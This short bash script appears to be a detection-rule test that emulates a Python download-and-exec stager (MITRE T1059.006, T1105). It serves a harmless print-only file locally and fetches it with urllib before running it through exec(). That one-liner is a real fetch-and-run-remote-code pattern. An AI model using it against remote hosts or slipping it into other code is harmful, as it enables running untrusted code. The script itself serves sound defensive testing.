#!/usr/bin/env bash
# technique: T1059.006 Command and Scripting Interpreter: Python
# technique: T1105 Ingress Tool Transfer
# rules: vigil_python_inline_fetch_or_decode_exec
# Acts out: a Python one-liner stager that downloads code and exec()s it. The code only
# prints.
source lib/common.sh
mkdir www
echo 'print("vigil-rulepack stage ran")' > www/stage.py
serve_dir www
"$PY" -c "import urllib.request as u; exec(u.urlopen('http://127.0.0.1:$PORT/stage.py').read())"
